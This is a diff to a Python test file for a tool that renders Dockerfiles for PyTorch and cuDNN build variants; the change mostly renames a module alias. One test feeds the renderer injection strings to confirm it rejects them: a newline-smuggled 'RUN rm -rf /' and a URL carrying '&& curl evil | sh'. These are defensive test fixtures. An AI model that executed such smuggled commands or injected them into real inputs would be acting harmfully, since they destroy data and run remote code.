@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from harness.backends.docker import dockerfile as images
+from harness.backends.docker import dockerfile
 from harness.backends.packages import PackageSource
 from harness.errors import InputError
 from harness.plan.model import Cell, CudnnSource
@@ -20,12 +20,12 @@ def cell(kind: str, value: str | None = None, **axes: str) -> Cell:
     return Cell(cudnn=CudnnSource(kind, value), **{**CUDA, **axes})  # type: ignore[arg-type]
 
 
-def final_stage(dockerfile: str) -> str:
-    return dockerfile.split("FROM python AS cell")[1]
+def final_stage(text: str) -> str:
+    return text.split("FROM python AS cell")[1]
 
 
 def test_bundled_cell_uses_the_nvidia_base_of_its_cuda_variant_and_pytorchs_index():
-    rendered = images.render(cell("bundled"), images.BuildOptions())
+    rendered = dockerfile.render(cell("bundled"), dockerfile.BuildOptions())
     text = rendered.dockerfile
     assert "FROM nvidia/cuda:13.0.1-base-ubuntu24.04 AS python" in text
     assert "--index-url https://download.pytorch.org/whl/cu130" in text and '"torch==2.11.0+cu130"' in text
@@ -36,7 +36,7 @@ def test_bundled_cell_uses_the_nvidia_base_of_its_cuda_variant_and_pytorchs_inde
 
 
 def test_wheel_cell_replaces_the_pinned_wheel_in_its_own_layers():
-    text = images.render(cell("wheel", "9.19.0.56"), images.BuildOptions()).dockerfile
+    text = dockerfile.render(cell("wheel", "9.19.0.56"), dockerfile.BuildOptions()).dockerfile
     assert '"nvidia-cudnn-cu13==9.19.0.56"' in text
     final = final_stage(text)
     # torch's layer first (shared with the bundled cell), then the cuDNN swap
@@ -47,7 +47,7 @@ def test_wheel_cell_replaces_the_pinned_wheel_in_its_own_layers():
 
 
 def test_system_cell_installs_the_apt_package_and_removes_the_wheels_copy():
-    rendered = images.render(cell("system", "9.14.0.64"), images.BuildOptions())
+    rendered = dockerfile.render(cell("system", "9.14.0.64"), dockerfile.BuildOptions())
     text = rendered.dockerfile
     assert '"libcudnn9-cuda-13=9.14.0.64-1"' in text
     final = final_stage(text)
@@ -61,12 +61,12 @@ def test_system_cell_installs_the_apt_package_and_removes_the_wheels_copy():
 
 
 def test_cells_sharing_a_torch_build_render_identical_torch_stages():
-    def python_and_torch_stages(dockerfile: str) -> str:
-        body = dockerfile.split("\n", 2)[2]  # after the two header lines that name the cell
+    def python_and_torch_stages(text: str) -> str:
+        body = text.split("\n", 2)[2]  # after the two header lines that name the cell
         return re.split(r"# ---- (?:stage cudnn|final stage)", body)[0]
 
     stages = [
-        python_and_torch_stages(images.render(cell(k, v), images.BuildOptions()).dockerfile)
+        python_and_torch_stages(dockerfile.render(cell(k, v), dockerfile.BuildOptions()).dockerfile)
         for k, v in (("bundled", None), ("wheel", "9.19.0.56"), ("system", "9.14.0.64"), ("disabled", None))
     ]
     assert len(set(stages)) == 1
@@ -77,9 +77,9 @@ def test_build_only_inputs_never_reach_the_final_stage(tmp_path: Path):
     (tmp_path / "wheelhouse" / "torch-2.11.0+cu130-cp312-cp312-linux_x86_64.whl").write_bytes(b"w")
     (tmp_path / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\n")
     for kind, value in (("bundled", None), ("system", "9.14.0.64")):
-        rendered = images.render(
+        rendered = dockerfile.render(
             cell(kind, value),
-            images.BuildOptions(
+            dockerfile.BuildOptions(
                 PackageSource(wheelhouse=tmp_path / "wheelhouse"), ca_bundle=tmp_path / "ca.pem"
             ),
         )
@@ -101,20 +101,20 @@ def test_build_only_inputs_never_reach_the_final_stage(tmp_path: Path):
 def test_tag_follows_content(tmp_path: Path):
     ca = tmp_path / "ca.pem"
     ca.write_text("one")
-    first = images.render(cell("bundled"), images.BuildOptions(ca_bundle=ca)).tag
-    assert images.render(cell("bundled"), images.BuildOptions(ca_bundle=ca)).tag == first
+    first = dockerfile.render(cell("bundled"), dockerfile.BuildOptions(ca_bundle=ca)).tag
+    assert dockerfile.render(cell("bundled"), dockerfile.BuildOptions(ca_bundle=ca)).tag == first
     ca.write_text("two")
-    assert images.render(cell("bundled"), images.BuildOptions(ca_bundle=ca)).tag != first
-    assert images.render(cell("bundled", python="3.11"), images.BuildOptions()).tag != first
+    assert dockerfile.render(cell("bundled"), dockerfile.BuildOptions(ca_bundle=ca)).tag != first
+    assert dockerfile.render(cell("bundled", python="3.11"), dockerfile.BuildOptions()).tag != first
 
 
 def test_unsafe_values_cannot_reach_a_dockerfile():
     with pytest.raises(InputError):
-        images.render(cell("bundled", base_image="ubuntu\nRUN rm -rf /"), images.BuildOptions())
+        dockerfile.render(cell("bundled", base_image="ubuntu\nRUN rm -rf /"), dockerfile.BuildOptions())
     with pytest.raises(InputError, match="plain http"):
-        images.render(
+        dockerfile.render(
             cell("bundled"),
-            images.BuildOptions(PackageSource(index_url="https://x.org/simple' && curl evil | sh")),
+            dockerfile.BuildOptions(PackageSource(index_url="https://x.org/simple' && curl evil | sh")),
         )
 
 
@@ -154,17 +154,19 @@ baseline: {cudnn: bundled, torch: "2.11.0+cu130"}
 
 def test_an_index_token_stays_in_the_build_stage():
     url = "https://build-bot:s3cr3t-token@pypi.corp.example/simple"
-    text = images.render(cell("bundled"), images.BuildOptions(PackageSource(index_url=url))).dockerfile
+    text = dockerfile.render(
+        cell("bundled"), dockerfile.BuildOptions(PackageSource(index_url=url))
+    ).dockerfile
     assert url in text.split("FROM python AS cell")[0]
     assert "s3cr3t-token" not in final_stage(text)
 
 
 def test_a_base_pinned_by_digest_is_used_as_written(write_matrix):
     digest = "nvidia/cuda:13.0.1-base-ubuntu24.04@sha256:" + "ab" * 32
-    rendered = images.render(cell("bundled", base_image=digest), images.BuildOptions())
+    rendered = dockerfile.render(cell("bundled", base_image=digest), dockerfile.BuildOptions())
     assert f"FROM {digest} AS python" in rendered.dockerfile
     assert (
-        images.labels(
+        dockerfile.labels(
             rendered,
             __import__("harness.plan.model").plan.model.Plan(
                 "p", "docker", (rendered.cell,), rendered.cell.id, (), {}, 5.0
@@ -187,7 +189,7 @@ def plain(kind: str = "bundled", value: str | None = None, base: str = HOST_BASE
 def test_a_plain_version_installs_pypis_build_from_the_wheelhouse_offline(tmp_path: Path):
     (tmp_path / PYPI_TORCH).write_bytes(b"PK")
     for kind in ("bundled", "disabled"):
-        rendered = images.render(plain(kind), images.BuildOptions(PackageSource(wheelhouse=tmp_path)))
+        rendered = dockerfile.render(plain(kind), dockerfile.BuildOptions(PackageSource(wheelhouse=tmp_path)))
         text = rendered.dockerfile
         assert f"FROM {HOST_BASE} AS python" in text
         assert '--no-index --find-links /tmp/harness-build/wheelhouse "torch==2.11.0"\n' in text
@@ -197,17 +199,17 @@ def test_a_plain_version_installs_pypis_build_from_the_wheelhouse_offline(tmp_pa
 
 
 def test_a_plain_version_without_a_wheelhouse_comes_from_pypi_or_the_index_given():
-    text = images.render(plain(), images.BuildOptions()).dockerfile
+    text = dockerfile.render(plain(), dockerfile.BuildOptions()).dockerfile
     assert '--index-url https://pypi.org/simple "torch==2.11.0"' in text
     assert "download.pytorch.org" not in text and "extra-index-url" not in text
     mirror = "https://pypi.corp.example/simple"
-    text = images.render(plain(), images.BuildOptions(PackageSource(index_url=mirror))).dockerfile
+    text = dockerfile.render(plain(), dockerfile.BuildOptions(PackageSource(index_url=mirror))).dockerfile
     assert f'--index-url {mirror} "torch==2.11.0"' in text and "pypi.org" not in text
 
 
 def test_a_plain_version_has_no_auto_base_image():
     with pytest.raises(InputError) as caught:
-        images.render(plain(base="auto"), images.BuildOptions())
+        dockerfile.render(plain(base="auto"), dockerfile.BuildOptions())
     (problem,) = caught.value.problems
     assert problem.field == "base_image" and "name one as base_image" in problem.message
 
@@ -215,10 +217,10 @@ def test_a_plain_version_has_no_auto_base_image():
 def test_a_plain_version_takes_no_cudnn_wheel_or_apt_package_but_the_bases_own():
     for kind, value in (("wheel", "9.19.0.56"), ("system", "9.14.0.64")):
         with pytest.raises(InputError) as caught:
-            images.render(plain(kind, value), images.BuildOptions())
+            dockerfile.render(plain(kind, value), dockerfile.BuildOptions())
         (problem,) = caught.value.problems
         assert problem.field == "axes.cudnn" and "name the variant, e.g. '2.11.0+cu130'" in problem.message
-    final = final_stage(images.render(plain("system", "image"), images.BuildOptions()).dockerfile)
+    final = final_stage(dockerfile.render(plain("system", "image"), dockerfile.BuildOptions()).dockerfile)
     assert "rm -rf /opt/venv/lib/python3.12/site-packages/nvidia/cudnn " in final
     assert "site-packages/nvidia_cudnn_cu*-*.dist-info; ldconfig" in final
 
@@ -266,7 +268,7 @@ def test_a_built_torch_has_torchvision_and_nvml_beside_it_and_a_writable_tmp():
     # issue 40 item 5 on the GPU: a built torch in an imported root filesystem ran its ResNet-50 rows only
     # once the image held torchvision (as local environments do) and a /tmp the suite's user can write
     cell = Cell("2.11.0", CudnnSource("bundled"), "gpu-host-root:ubuntu24.04", "3.12")
-    text = images.render(cell, images.BuildOptions()).dockerfile
+    text = dockerfile.render(cell, dockerfile.BuildOptions()).dockerfile
     loop = next(line for line in text.splitlines() if line.startswith("RUN for companion in "))
     assert loop.split(";")[0].split(" in ")[1].split() == ["torchvision", "nvidia-ml-py"]
     assert '"torch==2.11.0" "$companion"' in text  # torch named again: no companion's pin can move it
